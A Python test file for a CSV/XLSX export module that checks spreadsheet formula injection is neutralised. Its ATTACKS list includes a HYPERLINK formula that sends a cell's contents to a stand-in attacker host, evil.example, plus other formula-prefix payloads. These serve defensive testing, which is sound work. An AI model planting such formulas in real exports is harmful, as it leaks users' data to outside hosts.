import csv
import io
from datetime import date

from openpyxl import Workbook, load_workbook

from hbm.lib import streams

ATTACKS = ['=HYPERLINK("http://evil.example/?d="&B3,"Click")', "+1", "-2", "@SUM(A1:A9)"]


def test_csv_puts_a_quote_before_formula_prefixes_and_leaves_numbers_alone():
    rows = [["name", "n"], *([attack, -3] for attack in ATTACKS), ["\tx", 1.5], ["\rx", 0]]
    text = "".join(streams.csv_stream(rows)).removeprefix("\ufeff")
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert [r[0] for r in read[1:]] == [f"'{a}" for a in [*ATTACKS, "\tx", "\rx"]]
    assert [r[1] for r in read[1:]] == ["-3", "-3", "-3", "-3", "1.5", "0"]


def test_csv_leaves_ordinary_text_as_it_is():
    assert streams.csv_cell("Amina") == "Amina"
    assert streams.csv_cell("a=b") == "a=b"
    assert streams.csv_cell(None) is None and streams.csv_cell(date(2026, 1, 2)) == date(2026, 1, 2)


def read_xlsx(rows):
    with streams.xlsx_file(rows, sheet="s") as spool:
        return load_workbook(io.BytesIO(spool.read())).active


def test_xlsx_writes_text_as_string_cells_never_formulas():
    sheet = read_xlsx([["name", "n"], *([a, -3] for a in ATTACKS)])
    for row, attack in zip(sheet.iter_rows(min_row=2), ATTACKS, strict=True):
        assert (row[0].value, row[0].data_type) == (attack, "s")
        assert (row[1].value, row[1].data_type) == (-3, "n")


def test_xlsx_replaces_what_xml_cannot_hold_instead_of_failing():
    sheet = read_xlsx([["Ami\x00na\x1b", "ok\ud800"]])
    assert [c.value for c in next(sheet.iter_rows())] == [
        "Ami\ufffdna\ufffd",
        "ok\ufffd",
    ]


def test_xlsx_append_serves_workbooks_built_in_memory():
    book = Workbook()
    streams.xlsx_append(book.active, ["=1+1", 2, date(2026, 1, 2)])
    buffer = io.BytesIO()
    book.save(buffer)
    buffer.seek(0)
    cells = next(load_workbook(buffer).active.iter_rows())
    assert [(c.value, c.data_type) for c in cells][:2] == [("=1+1", "s"), (2, "n")]
    assert cells[2].is_date
